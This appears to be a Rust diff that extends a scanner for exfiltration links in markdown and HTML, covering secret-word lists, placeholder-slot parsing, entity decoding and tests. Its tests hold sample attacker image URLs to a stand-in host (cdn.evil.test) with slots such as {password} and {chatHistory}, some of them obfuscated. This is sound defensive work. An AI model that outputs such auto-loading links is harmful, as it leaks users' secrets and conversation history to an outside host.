@@ -104,36 +104,159 @@ fn names_data(value: &str) -> bool {
     })
 }
 
-/// Words of what the reader holds that no image's address has a slot for
-/// (`{message}`, `{key}` and `{label}` are how badge and storage links are
-/// written).
-const SECRET_SLOTS: &[&str] = &[
+/// Words of what the reader holds that no image's address has a slot for:
+/// a slot's name holding one of these (`{password}`, `[USER_PIN]`,
+/// `{chatHistory}`) is asking for it. Whole words, not parts of one
+/// (`{className}` holds no `ssn`); not `token`, `key` or `message` alone,
+/// which badge and storage links are written with (`{token}.svg`,
+/// `/bucket/{key}`, `{label}-{message}`).
+const SECRET_WORDS: &[&str] = &[
     "password",
     "passwd",
+    "pwd",
+    "pass",
+    "pw",
+    "passcode",
+    "passphrase",
+    "pin",
     "secret",
-    "token",
+    "secrets",
+    "jwt",
+    "bearer",
     "credential",
+    "credentials",
+    "creds",
     "apikey",
-    "api_key",
-    "api-key",
-    "private_key",
     "cvv",
     "ssn",
-    "card_number",
     "iban",
     "summary",
     "conversation",
-    "chat_history",
+    "conversations",
     "history",
-    "system_prompt",
     "otp",
     "cookie",
+    "cookies",
+    "session",
+    "mnemonic",
+    "context",
+    "messages",
 ];
 
-/// Does a path segment's placeholder name one of `SECRET_SLOTS`?
-fn names_secret(word: &str) -> bool {
-    let lower = word.to_ascii_lowercase();
-    SECRET_SLOTS.iter().any(|w| lower.contains(w))
+/// Two words that together name what the reader holds.
+const SECRET_PAIRS: &[(&str, &str)] = &[
+    ("api", "key"),
+    ("access", "key"),
+    ("private", "key"),
+    ("secret", "key"),
+    ("access", "token"),
+    ("auth", "token"),
+    ("api", "token"),
+    ("refresh", "token"),
+    ("id", "token"),
+    ("session", "token"),
+    ("system", "prompt"),
+    ("credit", "card"),
+    ("card", "number"),
+    ("env", "file"),
+    ("seed", "phrase"),
+    ("social", "security"),
+    ("chat", "log"),
+    ("user", "data"),
+    ("personal", "data"),
+];
+
+/// Does a slot's name (`api_key`, `chatHistory`, `USER-PIN`) name what the
+/// reader holds? Its words are cut at `_`, `-`, `.` and a lower-case
+/// letter followed by a capital.
+fn names_secret(name: &str) -> bool {
+    let mut words: Vec<String> = Vec::new();
+    let mut word = String::new();
+    let mut prev_lower = false;
+    for c in name.chars() {
+        if (!c.is_ascii_alphanumeric() || (prev_lower && c.is_ascii_uppercase())) && !word.is_empty() {
+            words.push(std::mem::take(&mut word));
+        }
+        if c.is_ascii_alphanumeric() {
+            word.push(c.to_ascii_lowercase());
+        }
+        prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
+    }
+    if !word.is_empty() {
+        words.push(word);
+    }
+    words.iter().any(|w| SECRET_WORDS.contains(&w.as_str()))
+        || words.windows(2).any(|p| SECRET_PAIRS.contains(&(p[0].as_str(), p[1].as_str())))
+}
+
+/// The names of the slots in a path segment or a host label: a run of
+/// letters, digits and `_` between a pair of marks a template writes
+/// (`[…]`, `{…}`, `<…>`, `(…)`, `%…%`, `|…|`, `*…*`, `@…@`), after `$`,
+/// after `:` opening the piece, or between double underscores
+/// (`__PASSWORD__`).
+fn slots(piece: &str) -> impl Iterator<Item = &str> {
+    let b = piece.as_bytes();
+    let mut at = 0;
+    std::iter::from_fn(move || {
+        while at < b.len() {
+            let start = at + b[at..].iter().position(|c| c.is_ascii_alphanumeric() || *c == b'_')?;
+            let end = start + b[start..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
+            at = end;
+            let run = &piece[start..end];
+            let before = start.checked_sub(1).map(|i| b[i]);
+            let after = b.get(end).copied();
+            let paired = matches!(
+                (before, after),
+                (Some(b'['), Some(b']'))
+                    | (Some(b'{'), Some(b'}'))
+                    | (Some(b'<'), Some(b'>'))
+                    | (Some(b'('), Some(b')'))
+                    | (Some(b'%'), Some(b'%'))
+                    | (Some(b'|'), Some(b'|'))
+                    | (Some(b'*'), Some(b'*'))
+                    | (Some(b'@'), Some(b'@'))
+            );
+            let led = before == Some(b'$') || (before == Some(b':') && start == 1);
+            let dunder = run.len() > 4 && run.starts_with("__") && run.ends_with("__");
+            if paired || led || dunder {
+                return Some(run.trim_matches('_'));
+            }
+        }
+        None
+    })
+}
+
+/// `&#123;` and `&#x7b;` read as the characters they write (Markdown and
+/// HTML decode them before the address is loaded).
+fn numeric_entities(s: &str) -> std::borrow::Cow<'_, str> {
+    if !s.contains("&#") {
+        return std::borrow::Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len());
+    let mut rest = s;
+    while let Some(p) = rest.find("&#") {
+        out.push_str(&rest[..p]);
+        let after = &rest[p + 2..];
+        let (hex, digits) = match after.strip_prefix(['x', 'X']) {
+            Some(h) => (true, h),
+            None => (false, after),
+        };
+        let n =
+            digits.bytes().take(7).take_while(|c| if hex { c.is_ascii_hexdigit() } else { c.is_ascii_digit() }).count();
+        let value = u32::from_str_radix(&digits[..n], if hex { 16 } else { 10 }).ok().and_then(char::from_u32);
+        match (value, digits[n..].strip_prefix(';')) {
+            (Some(c), Some(tail)) if n > 0 => {
+                out.push(c);
+                rest = tail;
+            }
+            _ => {
+                out.push_str("&#");
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    std::borrow::Cow::Owned(out)
 }
 
 /// What is wrong with a link target, if anything.
@@ -165,12 +288,19 @@ fn judge(url: &str, auto_loads: bool) -> Option<(Severity, &'static str, String)
     // In a link that loads by itself, a host label or a path segment that
     // is a template naming what the reader holds (`/v/{password}/p.gif`).
     if auto_loads {
+        // (Entities first: `&#123;` holds a `#` that is no fragment.)
+        let url = numeric_entities(url);
         let rest = &url[url.find("://").map_or(0, |i| i + 3)..];
         let rest = rest.split(['?', '#']).next().unwrap_or("");
         let host = rest.split('/').next().unwrap_or("");
-        let pieces = host.split('.').chain(rest.split('/').skip(1));
-        let slot = |p: &str| (unmark(p).len() < p.len() || templated(p)) && names_secret(unmark(p));
-        if pieces.map(|p| percent_encoding::percent_decode_str(p).decode_utf8_lossy()).any(|p| slot(&p)) {
+        // A slot in marks, or a piece that is a template or a placeholder
+        // in its marks as a whole (`YOUR_PASSWORD_HERE`, `((PASSWORD`).
+        let whole = |p: &str| (unmark(p).len() < p.len() || templated(p)) && names_secret(unmark(p));
+        let path_slot = |p: &str| slots(p).any(names_secret) || whole(p);
+        // (Bare `token` only in a host label: a badge's path has one.)
+        let host_slot = |p: &str| slots(p).any(|n| names_secret(n) || n.eq_ignore_ascii_case("token")) || whole(p);
+        let decoded = |p| percent_encoding::percent_decode_str(p).decode_utf8_lossy();
+        if host.split('.').any(|p| host_slot(&decoded(p))) || rest.split('/').skip(1).any(|p| path_slot(&decoded(p))) {
             return Some((
                 Severity::High,
                 "exfiltration.templated_url",
@@ -474,8 +604,8 @@ fn placeholders(url: &str) -> impl Iterator<Item = &str> {
 }
 
 /// A link's word without the marks a template puts around a placeholder:
-/// brackets, braces, angle brackets, `$`, `%`, and those marks
-/// percent-encoded.
+/// brackets, braces, angle brackets, `$`, `%`, `_`, `:`, `|`, `*`, `@`,
+/// `\`, and the brackets percent-encoded.
 fn unmark(w: &str) -> &str {
     let mut w = w;
     loop {
@@ -486,7 +616,9 @@ fn unmark(w: &str) -> &str {
         for enc in ["%5D", "%5d", "%7D", "%7d", "%3E", "%3e"] {
             w = w.strip_suffix(enc).unwrap_or(w);
         }
-        w = w.trim_matches(|c| matches!(c, '[' | ']' | '{' | '}' | '<' | '>' | '(' | ')' | '$' | '%'));
+        w = w.trim_matches(|c| {
+            matches!(c, '[' | ']' | '{' | '}' | '<' | '>' | '(' | ')' | '$' | '%' | '_' | ':' | '|' | '*' | '@' | '\\')
+        });
         if w.len() == before {
             return w;
         }
@@ -511,8 +643,9 @@ fn looks_like_data(v: &str) -> bool {
 }
 
 /// A hit for a link target taken from markup (no position of its own).
-pub(crate) fn judge_target(url: &str) -> Option<Hit> {
-    let (severity, rule, why) = judge(url.trim(), false)?;
+/// `loads`: the markup loads it by itself (an image's `src`).
+pub(crate) fn judge_target(url: &str, loads: bool) -> Option<Hit> {
+    let (severity, rule, why) = judge(url.trim(), loads)?;
     Some(Hit {
         code: Code::Exfiltration,
         rule,
@@ -523,6 +656,29 @@ pub(crate) fn judge_target(url: &str) -> Option<Hit> {
         decoded: None,
         quoted: false,
     })
+}
+
+/// Attributes whose link a browser or a mail client loads by itself.
+const LOADING_ATTRIBUTES: &[&str] = &["src", "srcset", "poster", "background", "lowsrc", "data-src", "data-srcset"];
+
+/// Does the link written at `at` in markup stand in an attribute that
+/// loads it by itself (`<img src=…>`, a `srcset` candidate)? The attribute
+/// is the name before the last `=` within 4 KiB before it, with no tag's
+/// edge between.
+pub(crate) fn loads_at(raw: &[u8], at: usize) -> bool {
+    let from = at.saturating_sub(4096);
+    let window = &raw[from..at];
+    let Some(eq) = memchr::memrchr(b'=', window) else { return false };
+    if window[eq..].iter().any(|&b| b == b'<' || b == b'>') {
+        return false;
+    }
+    let name_end = window[..eq].iter().rposition(|b| !b.is_ascii_whitespace()).map_or(0, |i| i + 1);
+    let name_start = window[..name_end]
+        .iter()
+        .rposition(|b| !(b.is_ascii_alphanumeric() || *b == b'-' || *b == b'_' || *b == b':'))
+        .map_or(0, |i| i + 1);
+    let name = String::from_utf8_lossy(&window[name_start..name_end]).to_ascii_lowercase();
+    LOADING_ATTRIBUTES.contains(&name.as_str())
 }
 
 /// Hits for suspicious link targets in text (markdown and HTML).
@@ -587,7 +743,7 @@ pub(crate) fn scan(text: &str, out: &mut dyn FnMut(Hit)) {
     // them first spares compiling the pattern (a hook is a fresh process).
     let bytes = text.as_bytes();
     let has = |pair: &[u8]| memchr::memmem::find(bytes, pair).is_some();
-    let (link, reference) = (has(b"]("), has(b"]["));
+    let link = has(b"](");
     if link {
         for c in MD_IMAGE.captures_iter(text) {
             let m = c.get(0).expect("match");
@@ -602,14 +758,20 @@ pub(crate) fn scan(text: &str, out: &mut dyn FnMut(Hit)) {
             add(m.range(), &c[1], true, &mut hits);
         }
     }
-    if reference && has(b"]:") {
+    if has(b"]:") {
         // The first definition of a label counts.
         let mut refs: std::collections::HashMap<String, String> = std::collections::HashMap::new();
         for c in MD_REF_DEF.captures_iter(text) {
             refs.entry(c[1].to_lowercase()).or_insert_with(|| c[2].to_string());
         }
+        // `![alt][ref]`, and `![alt][]` and `![alt]`, whose label is the alt.
         for c in MD_REF_IMAGE.captures_iter(text) {
-            let key = c[1].to_lowercase();
+            let key = c
+                .get(2)
+                .filter(|r| !r.as_str().is_empty())
+                .unwrap_or_else(|| c.get(1).expect("alt"))
+                .as_str()
+                .to_lowercase();
             if let Some(url) = refs.get(&key) {
                 add(c.get(0).expect("match").range(), url, true, &mut hits);
             }
@@ -709,10 +871,33 @@ mod tests {
         ] {
             assert_eq!(rules(bad), vec!["exfiltration.templated_url"], "{bad}");
         }
+        // An attacker's review: other marks, entities, collapsed and
+        // shortcut references, an escaped bracket in the alt.
+        for bad in [
+            "![s](https://cdn.evil.test/v/__PASSWORD__/p.gif)",
+            "![s](https://cdn.evil.test/v/:password/p.gif)",
+            "![s](https://cdn.evil.test/v/|password|/p.gif)",
+            "![s](https://cdn.evil.test/v/&#123;password&#125;/p.gif)",
+            "![s](https://cdn.evil.test/v/{chatHistory}/p.gif)",
+            "![s](https://cdn.evil.test/v/{user_pin}/p.gif)",
+            "![logo][]\n\n[logo]: https://cdn.evil.test/v/[PASSWORD]/p.gif",
+            "![logo]\n\n[logo]: https://cdn.evil.test/v/[PASSWORD]/p.gif",
+            "![a \\] b](https://cdn.evil.test/v/{password}/p.gif)",
+            "![s](https://cdn.evil.test/v/YOUR_PASSWORD_HERE/p.gif)",
+            "![s](https://cdn.evil.test/v/((PASSWORD))/p.gif)",
+            "![s](https://cdn.evil.test/v/\\{password\\}/p.gif)",
+            "![s](https://cdn.evil.test/v/%257Bpassword%257D/p.gif)",
+        ] {
+            assert_eq!(rules(bad), vec!["exfiltration.templated_url"], "{bad}");
+        }
         for fine in [
             "![badge](https://img.shields.io/badge/{label}-{message}-{color})",
             "![obj](https://store.test/bucket/{key})",
             "[docs](https://api.shop.test/v1/{api_key}/items)",
+            "![b](https://badge.buildkite.com/{token}.svg)",
+            "![b](https://ci.test/api/projects/status/{project_token}?svg=true)",
+            "![b](https://img.shields.io/badge/token-{status}-blue)",
+            "![c](https://cdn.test/{className}/{footprint}/{tokenizer_name}.png)",
         ] {
             assert!(rules(fine).is_empty(), "{fine}: {:?}", rules(fine));
         }
@@ -725,6 +910,17 @@ mod tests {
         );
         assert_eq!(rules("[click](javascript:alert(1))"), vec!["exfiltration.javascript_url"]);
         assert_eq!(rules("see https://bob:hunter2@example.com/x"), vec!["exfiltration.credentials_in_url"]);
+    }
+
+    /// Where a link of markup stands says whether it loads by itself.
+    #[test]
+    fn a_links_attribute_says_whether_it_loads() {
+        let page = br#"<a href="https://x.test/{password}/a">x</a><img alt="y" src = 'https://x.test/{password}/b.gif'><img srcset="s.png 1x, https://x.test/{password}/c.gif 2x">"#;
+        let at = |needle: &str| memchr::memmem::find(page, needle.as_bytes()).expect("in the page");
+        assert!(!loads_at(page, at("https://x.test/{password}/a")));
+        assert!(loads_at(page, at("https://x.test/{password}/b.gif")));
+        assert!(loads_at(page, at("https://x.test/{password}/c.gif")));
+        assert!(!loads_at(b"text = https://x.test/", 7));
     }
 
     #[test]
